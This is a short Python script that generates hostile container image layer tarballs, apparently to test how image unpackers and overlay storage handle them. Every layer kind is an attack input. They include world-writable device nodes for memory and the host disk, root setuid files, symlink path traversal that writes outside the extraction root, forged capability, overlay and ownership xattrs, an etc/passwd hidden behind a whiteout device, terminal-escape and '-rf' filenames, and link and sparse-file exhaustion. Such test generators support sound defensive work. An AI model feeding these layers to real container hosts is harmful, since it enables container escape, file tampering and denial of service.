#!/usr/bin/env python3
"""hostiletar.py KIND FILE [WORD]: a layer of a hostile image. Every kind is explained in KINDS."""
import io, os, sys, tarfile

KINDS = {
    "devices": "nodes of memory, disks and the kernel's log, as image tars may hold them",
    "setid": "programs that are set-uid and set-gid to many users", "owners": "owners and groups outside every range",
    "modes": "directories and files that nobody may read, with every bit", "capabilities": "a program with file capabilities",
    "overlay": "attributes with which overlay leads a name elsewhere: to WORD", "xattrs": "attributes of the security modules",
    "links": "hard links to links, links in a circle, a link in place of a directory that is then filled",
    "names": "names with control characters, newlines, and those of whiteouts", "opaque": "an opaque mark behind a link to /",
    "parents": "files whose parents are links to WORD", "fifo": "pipes and sockets in place of what is read",
    "many-links": "a file with 70,000 names", "sparse": "a sparse file of a petabyte", "case": "a whiteout of what the layer has",
    "forged": "attributes that say whose a file is, ours and others'",
    "hiding": "a device 0:0, which is overlay's whiteout, in place of etc/passwd",
}


def main():
    kind, path, word = sys.argv[1], sys.argv[2], (sys.argv + [""])[3]
    t = tarfile.open(path, mode="w", format=tarfile.PAX_FORMAT)

    def add(name, type=tarfile.REGTYPE, link="", data=b"", mode=0o644, uid=0, gid=0, dev=(0, 0), xattrs=None):
        m = tarfile.TarInfo(name)
        m.type, m.linkname, m.mode, m.uid, m.gid = type, link, mode, uid, gid
        m.devmajor, m.devminor = dev
        m.pax_headers = {"SCHILY.xattr." + k: v for k, v in (xattrs or {}).items()}
        m.size = len(data) if type == tarfile.REGTYPE else 0
        t.addfile(m, io.BytesIO(data))

    add("marker", data=b"here\n")
    if kind == "devices":
        disk = os.stat(os.path.dirname(os.path.abspath(path))).st_dev
        for name, type, dev in (("mem", tarfile.CHRTYPE, (1, 1)), ("kmsg", tarfile.CHRTYPE, (1, 11)), ("port", tarfile.CHRTYPE, (1, 4)),
                                ("disk", tarfile.BLKTYPE, (os.major(disk), os.minor(disk))), ("sda", tarfile.BLKTYPE, (8, 0)),
                                ("null", tarfile.CHRTYPE, (1, 3)), ("tty", tarfile.CHRTYPE, (5, 0)), ("fuse", tarfile.CHRTYPE, (10, 229)),
                                ("kvm", tarfile.CHRTYPE, (10, 232)), ("loop", tarfile.BLKTYPE, (7, 0))):
            add("n/" + name, type, mode=0o666, dev=dev)
    elif kind == "setid":
        for uid in (0, 1, 1000, 65534):
            add("suid-%d" % uid, data=b"\x7fELFno\n", mode=0o6755, uid=uid, gid=uid)
    elif kind == "owners":
        for uid in (1, 999, 65534, 65535, 65536, 100000, 2**31 - 1, 2**31, 2**32 - 2, 2**32 - 1):
            add("o%d" % uid, data=b"x", uid=uid, gid=uid)
    elif kind == "modes":
        add("closed", tarfile.DIRTYPE, mode=0)
        add("closed/f", data=b"x", mode=0)
        add("bits", tarfile.DIRTYPE, mode=0o7777)
        add("bits/f", data=b"x", mode=0o7777)
        add("high", data=b"x", mode=0o177777)
    elif kind == "capabilities":
        for n, rev in (("v2", b"\x01\x00\x00\x02"), ("v3", b"\x01\x00\x00\x03")):
            value = rev + b"\xff" * 16 + (b"\0" * 4 if n == "v3" else b"")
            m = tarfile.TarInfo("cap-" + n)
            m.mode, m.size = 0o755, 2
            m.pax_headers = {"SCHILY.xattr.security.capability": value.decode("utf-8", "surrogateescape")}
            t.addfile(m, io.BytesIO(b"x\n"))
    elif kind == "overlay":
        for prefix in ("trusted.overlay.", "user.overlay."):
            d = prefix.split(".")[0]
            add("r-" + d, tarfile.DIRTYPE, mode=0o755, xattrs={prefix + "redirect": word, prefix + "origin": "x"})
            add("m-" + d, mode=0o644, xattrs={prefix + "metacopy": "", prefix + "redirect": word + "/text"})
            add("w-" + d, mode=0o644, xattrs={prefix + "whiteout": "y"})
            add("o-" + d, tarfile.DIRTYPE, mode=0o755, xattrs={prefix + "opaque": "x", prefix + "upper": "x", prefix + "protattr": "i"})
    elif kind == "xattrs":
        add("x", xattrs={"security.selinux": "system_u:object_r:shadow_t:s0", "security.ima": "x", "security.evm": "x",
                         "security.apparmor": "x", "trusted.x": "y", "system.posix_acl_access": "x", "user.x": "y" * 60000})
    elif kind == "forged":
        for n, (key, value) in enumerate((("user.cbuild.own", "31337:31337"), ("user.cbuild.own", "31337:31337:b:8:0"),
                                          ("trusted.cbuild.own", "31337:31337"), ("security.cbuild.own", "31337:31337"),
                                          ("user.containers.override_stat", "31337:31337:0104755"))):
            add("forged-%d" % n, data=b"x", uid=5, gid=6, xattrs={key: value})
            add("forged-dir-%d" % n, tarfile.DIRTYPE, mode=0o755, xattrs={key: value})
    elif kind == "links":
        add("a", tarfile.SYMTYPE, "b")
        add("b", tarfile.SYMTYPE, "a")
        add("self", tarfile.LNKTYPE, "self")
        add("hard-to-link", tarfile.LNKTYPE, "a")
        add("dir", tarfile.SYMTYPE, word)
        add("dir/text", data=b"overwritten\n")
    elif kind == "names":
        for name in ("esc\x1b]0;evil\x07", "new\nline", "\x7f", "-rf", "*", "a\\b", "\udcff\udcfe", ".wh..wh..plnk", "x/.wh..wh.aufs"):
            add(name, data=b"x")
    elif kind == "opaque":
        add("s", tarfile.SYMTYPE, "/")
        add("s/.wh..wh..opq")
        add("t", tarfile.SYMTYPE, word)
        add("t/.wh.text")
        add("t/.wh..wh..opq")
    elif kind == "parents":
        add("p", tarfile.SYMTYPE, word)
        add("p/planted", data=b"x")
        add("q", tarfile.SYMTYPE, "../../../../../../../../../.." + word)
        add("q/planted/deep", data=b"x")
        add("h", tarfile.LNKTYPE, "p/text")
    elif kind == "fifo":
        for name in ("etc/passwd", "etc/group", "etc/hosts", "bin/sh", "f"):
            add(name, tarfile.FIFOTYPE)
    elif kind == "many-links":
        add("one", data=b"x")
        for n in range(70000):
            add("l/%d" % n, tarfile.LNKTYPE, "one")
    elif kind == "sparse":
        m = tarfile.TarInfo("huge")
        m.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "huge", "GNU.sparse.realsize": str(2**50)}
        body = b"1\n0\n0\n".ljust(512, b"\0")
        m.size = len(body)
        t.addfile(m, io.BytesIO(body))
    elif kind == "hiding":
        add("etc/passwd", tarfile.CHRTYPE)
    elif kind == "case":
        add(".wh.marker")
        add("d", tarfile.DIRTYPE, mode=0o755)
        add("d/.wh..wh..opq")
        add("d/f", data=b"x")
        add(".wh.d")
    t.close()


main()
